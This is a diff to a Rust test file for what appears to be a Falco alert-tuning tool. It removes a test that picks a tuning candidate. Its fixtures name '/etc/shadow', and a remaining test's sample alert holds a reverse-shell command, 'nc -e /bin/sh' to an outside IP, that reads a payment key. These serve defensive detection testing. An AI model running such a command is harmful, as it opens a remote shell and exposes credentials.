@@ -362,44 +362,6 @@ fn a_noisy_day_is_nearly_silent_and_its_attacks_are_not() {
 }
 
 #[test]
-fn the_export_holds_the_candidate_that_was_chosen_with_its_proof() {
-    let line = alert(
-        true,
-        &["/usr/bin/agent", "registry.example/agent", "platform", "/etc/shadow"].map(Into::into),
-        1,
-    );
-    let loaded = Loaded::of("input", line.as_bytes());
-    let ids: Vec<&str> = loaded.report.insight.groups.iter().map(|group| group.id.as_str()).collect();
-    let mut report = loaded.report.clone();
-    report.plan = loaded.select(&ids, true);
-    let [tuning] = report.plan.tunings.as_slice() else { panic!("{:?}", report.plan) };
-    let tuning = tuning.clone();
-    let id = tuning.id.as_str();
-    let [narrow, .., broad] = tuning.candidates.as_slice() else { panic!("{tuning:?}") };
-    let proposed = report.plan.clone();
-    let names = |plan: &Plan| -> Vec<String> { plan.files().iter().map(|file| file.name.clone()).collect() };
-    let slug = id.strip_prefix("falco-tuning-").unwrap();
-    let old = format!("falco-before-0.37/{slug}.yaml");
-    assert!(names(&proposed).contains(&old));
-
-    report.plan.choose(id, Some(&broad.content));
-    let (mitigation, file) = tunings(&report.plan).next().unwrap();
-    assert_eq!((mitigation.proof.as_ref(), &file.content), (Some(&broad.proof), &broad.content));
-    assert!(!names(&report.plan).contains(&old));
-    let values = report.plan.files().into_iter().find(|file| file.name.starts_with("helm/falco-v")).unwrap();
-    assert!(values.content.contains("# Falco tuning by Falco Report. Grade: broad."), "{}", values.content);
-
-    report.plan.choose(id, Some("# mine\n"));
-    assert!(report.plan.mitigations.iter().any(|one| one.id == id && one.proof.is_none()));
-    report.plan.choose(id, None);
-    assert!(names(&report.plan).iter().all(|name| !name.contains(slug)));
-
-    let mut again = proposed.clone();
-    again.choose(id, Some(&narrow.content));
-    assert_eq!(names(&again), names(&proposed));
-}
-
-#[test]
 fn an_attack_is_hidden_only_on_demand_and_the_file_says_so() {
     let line = r#"{"rule":"Payment key read","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","container.id":"host","fd.name":"/run/pay.key","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444"}}"#;
     let loaded = Loaded::of("input", line.as_bytes());
